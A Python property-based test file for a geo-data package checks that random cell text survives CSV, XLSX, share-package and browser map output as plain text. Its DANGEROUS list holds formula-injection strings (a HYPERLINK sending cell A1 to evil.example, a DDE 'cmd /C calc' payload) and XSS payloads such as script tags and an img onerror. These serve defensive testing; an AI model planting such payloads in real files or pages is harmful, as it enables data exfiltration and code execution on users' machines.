"""Property: any cell text goes through every output format as the same text, never as a formula or
markup (issue 12).

Hypothesis writes random text -- with formula starters, ``<script>``, ``<!--``, U+2028/9,
quotes, CJK, control characters -- as names, values and titles into CSV and XLSX (read back
with the csv module and openpyxl), a share package (read back from its GeoJSON and its
GeoPackage) and a map page opened in headless Chromium (every feature drawn, no script run,
no element made of the data, popups and the layer control showing the text). Where a medium
cannot hold a character the expected text says so explicitly: NUL becomes U+FFFD everywhere
GDAL stores text; a workbook cell holds no other C0 control and no CR (XML reads CR as LF).
"""
from __future__ import annotations

import csv
import re
import tempfile
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hn_geo.core.settings import STORAGE_CRS
from hn_geo.render import escape, maps, share, tables
from hn_geo.render.maps.layers import LayerSpec

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
             "\t=1+1", "\r=1+1", "'=1", "<!--<script>", "</script><script>window.pwned=1</script>",
             "<img src=x onerror=window.pwned=1>", "<b>x</b>", "]]>", "\u2028", "\u2029", '"', "'", "&amp;",
             "&lt;", "海宁市", "硖石街道（测试）", "-", "-5", "1e5", " lead", "trail ", "a\r\nb", "\x00", "\x1b[2J",
             "{{x}}", "${x}", "\\", "\ufeff"]
TEXT = st.one_of(st.text(max_size=16), st.sampled_from(DANGEROUS),
                 st.builds(lambda a, b, c: a + b + c, st.sampled_from(DANGEROUS), st.text(max_size=6),
                           st.sampled_from(DANGEROUS)))
CELLS = st.lists(TEXT, min_size=1, max_size=6)
HOSTILE_COLUMN = "=cmd|' /C calc'!A0"


def _layer(texts):
    n = len(texts)
    return gpd.GeoDataFrame({"name": texts, HOSTILE_COLUMN: texts[::-1], "value": [-1.5 * k for k in range(n)]},
                            geometry=list(shapely.points([120.60 + 0.01 * k for k in range(n)], [30.50] * n)),
                            crs=STORAGE_CRS)


def _xml_formulas(path):
    with zipfile.ZipFile(path) as z:
        return sum(len(re.findall(rb"<f[ >]", z.read(n))) for n in z.namelist() if n.startswith("xl/worksheets/"))


def _csv_and_xlsx_hold(texts):
    frame = pd.DataFrame({"name": texts, HOSTILE_COLUMN: texts[::-1], "value": [-1.5 * k for k in range(len(texts))]})
    with tempfile.TemporaryDirectory() as d:
        path = tables.write_csv(frame, Path(d) / "t.csv")
        with open(path, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert len(rows) == len(texts) + 1  # a CR or LF in a value never splits a row
        assert escape.csv_untext(rows[0][1]) == HOSTILE_COLUMN and not escape.formula_like(rows[0][1])
        for row, text in zip(rows[1:], texts):
            assert not escape.formula_like(row[0]) and not escape.formula_like(row[1])
            assert escape.csv_untext(row[0]) == escape.stored_text(text)
            float(row[2])  # numbers stay numbers
        xl = tables.write_xlsx({"t": frame}, Path(d) / "t.xlsx")
        assert _xml_formulas(xl) == 0
        ws = openpyxl.load_workbook(xl)["t"]
        assert ws.cell(row=1, column=2).value == HOSTILE_COLUMN
        for r, text in enumerate(texts, start=2):
            cell = ws.cell(row=r, column=1)
            expected = escape.xlsx_text(text)
            assert cell.value == (expected or None), (text, cell.value)
            assert cell.data_type != "f" and (cell.value is None or cell.data_type == "s")
            assert isinstance(ws.cell(row=r, column=3).value, (int, float))


@settings(max_examples=20, deadline=None)
@given(CELLS)
def test_csv_and_xlsx_hold_the_text_as_text(texts):
    _csv_and_xlsx_hold(texts)


@pytest.mark.slow
@settings(max_examples=400, deadline=None)
@given(CELLS)
def test_csv_and_xlsx_hold_the_text_as_text_many(texts):
    _csv_and_xlsx_hold(texts)


@pytest.mark.slow
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(CELLS, TEXT)
def test_share_package_round_trips_the_text(texts, title):
    with tempfile.TemporaryDirectory() as d:
        out = Path(d) / "p.zip"
        share.write_share_package([share.ShareLayer("hostile", _layer(texts), title=title or "t")], out, lang="en")
        expected = [escape.stored_text(t) for t in texts]
        for fmt in ("geojson", "gpkg"):
            back = share.read_share_package(out, fmt=fmt)["hostile"]
            assert back["name"].tolist() == expected, fmt
            assert back[HOSTILE_COLUMN].tolist() == expected[::-1], fmt
            assert back["value"].tolist() == [-1.5 * k for k in range(len(texts))]
        with zipfile.ZipFile(out) as zf:
            fields = zf.read("fields/hostile_fields.csv").decode("utf-8-sig")
            zf.read("README.txt").decode("utf-8-sig")
        for row in csv.reader(fields.splitlines()):
            assert not any(escape.formula_like(c) for c in row)


# ----------------------------------------------------------------------------- in the browser


PAGE_JS = """
() => {
  const map = Object.values(window).find(x => x instanceof L.Map);
  const out = {features: 0, drawn: 0, popups: [], tags: new Set(), pwned: window.pwned === undefined ? null : window.pwned};
  map.eachLayer(lyr => {
    if (!(lyr instanceof L.GeoJSON)) return;
    lyr.eachLayer(l => {
      out.features++;
      if (l._path && l._path.isConnected && l._path.getAttribute('d')) out.drawn++;
      l.fire('click', {latlng: l.getLatLng()}, true);  // as a click: the layer's popup opens
      const box = document.querySelector('.leaflet-popup-content');
      box.querySelectorAll('*').forEach(e => out.tags.add(e.tagName));
      out.popups.push([...box.querySelectorAll('tr')].map(tr => [tr.querySelector('th').textContent,
                                                                  tr.querySelector('td').textContent]));
      map.closePopup();
    });
  });
  document.querySelectorAll('.leaflet-control-container *').forEach(e => out.tags.add('control:' + e.tagName));
  out.tags = [...out.tags];
  out.overlays = [...document.querySelectorAll('.leaflet-control-layers-overlays input + span')]
                 .map(s => s.textContent);
  out.title = document.querySelector('.hn-title') ? document.querySelector('.hn-title').textContent : null;
  out.scripts = document.querySelectorAll('script').length;
  return out;
}
"""
POPUP_TAGS = {"DIV", "TABLE", "TBODY", "TR", "TH", "TD"}
CONTROL_TAGS = {"control:" + t for t in ("DIV", "SPAN", "A", "INPUT", "LABEL", "SECTION", "UL", "LI", "svg", "path",
                                         "BR", "CANVAS")}


def _html_text(text):
    """What the HTML parser makes of text: CR and CRLF as LF, NUL as U+FFFD."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")


def _open(browser, path):
    page = browser.new_page(viewport={"width": 900, "height": 700})
    page.errors = []
    page.on("pageerror", lambda exc: page.errors.append(str(exc)))
    page.route("**/*", lambda r: r.continue_() if r.request.url.startswith(("file:", "data:")) else r.abort())
    page.goto(path.as_uri(), wait_until="load")
    return page


def _map_page(tmp, texts, title):
    spec = LayerSpec("hostile", _layer(texts).drop(columns=[HOSTILE_COLUMN]), title=title or "t",
                     labels={"name": (HOSTILE_COLUMN, HOSTILE_COLUMN)})
    return maps.save_map(maps.make_map([spec], title=title or "t", minimap=False), tmp / "m.html")


@pytest.fixture(scope="module")
def plain_scripts(browser, tmp_path_factory):
    """Script elements of a map page of plain text (the data must add none)."""
    page = _open(browser, _map_page(tmp_path_factory.mktemp("plain"), ["x"], "x"))
    try:
        return page.evaluate(PAGE_JS)["scripts"]
    finally:
        page.close()


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                HealthCheck.too_slow])
@given(texts=CELLS, title=TEXT)
def test_map_page_shows_the_text_and_runs_none_of_it(browser, plain_scripts, texts, title):
    scripts = plain_scripts
    with tempfile.TemporaryDirectory() as d:
        page = _open(browser, _map_page(Path(d), texts, title))
        try:
            got = page.evaluate(PAGE_JS)
            assert page.errors == [] and got["pwned"] is None
            assert got["features"] == got["drawn"] == len(texts)  # nothing of the page lost
            assert got["scripts"] == scripts  # no script element made of the data
            assert set(got["tags"]) - CONTROL_TAGS <= POPUP_TAGS, got["tags"]
            for rows, text in zip(got["popups"], texts):
                shown = dict(rows)
                if text:
                    assert shown[HOSTILE_COLUMN] == _html_text(text) or shown[HOSTILE_COLUMN] == text
                else:
                    assert HOSTILE_COLUMN not in shown  # an empty value is left out of the popup
            assert [o.strip() for o in got["overlays"]] == [_html_text(title or "t").strip()]
            assert got["title"] == _html_text(title or "t")
        finally:
            page.close()
